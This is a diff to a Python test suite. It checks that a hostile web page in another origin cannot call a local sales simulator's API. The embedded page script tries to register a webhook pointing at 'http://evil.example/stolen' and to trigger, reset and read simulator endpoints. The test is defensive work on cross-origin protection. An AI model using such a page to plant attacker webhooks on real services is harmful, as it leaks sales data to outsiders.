@@ -19,7 +19,9 @@ _PAGE = """<!doctype html><title>tries</title><script>
 const webhook = {event: "SaleCreated", url: "http://evil.example/stolen"};
 const tries = [
   ["POST", "/api/Webhooks", webhook], ["POST", "/_sim/trigger", {event: "SaleCreated"}], ["POST", "/_sim/reset", {}],
-  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"], ["GET", "/_sim/page/events"],
+  ["POST", "/_sim/page/verify/runs", {receiver: "http://127.0.0.1:1", effects: {url: "http://127.0.0.1:1"}}],
+  ["GET", "/api/Webhooks"], ["GET", "/_sim/faults"], ["GET", "/_sim/page/events"], ["GET", "/_sim/page/calls"],
+  ["GET", "/_sim/page/verify/runs"],
 ];
 (async () => {
   const seen = [];
@@ -106,7 +108,7 @@ def test_a_page_of_another_site(sim: Simulation, tmp_path: Path):
     before = state(sim)
     site = Site(_PAGE.replace("TARGET", f"http://127.0.0.1:{sim.port}"))
     with closing(site), chromium(tmp_path, "--remote-debugging-port=0", f"http://127.0.0.1:{site.port}/"):
-        assert ["blocked", "0"] * 6 == site.seen()  # 0 is all that a page sees of an answer that it may not read
+        assert ["blocked", "0"] * 9 == site.seen()  # 0 is all that a page sees of an answer that it may not read
     assert before == state(sim)
 
 
@@ -119,7 +121,10 @@ def test_a_name_that_is_rebound(sim: Simulation, tmp_path: Path):
     assert before == state(sim)
 
 
+READS = ("_sim/stats", "api/Webhooks", "_sim/faults")
+
+
 def state(sim: Simulation) -> object:
     """Everything that a page could have changed."""
     url = f"http://127.0.0.1:{sim.port}"
-    return [sim.http.get(f"{url}/{path}").json() for path in ("_sim/stats", "api/Webhooks", "_sim/faults")]
+    return [sim.http.get(f"{url}/{path}").json() for path in (*READS, "_sim/page/verify/runs")]
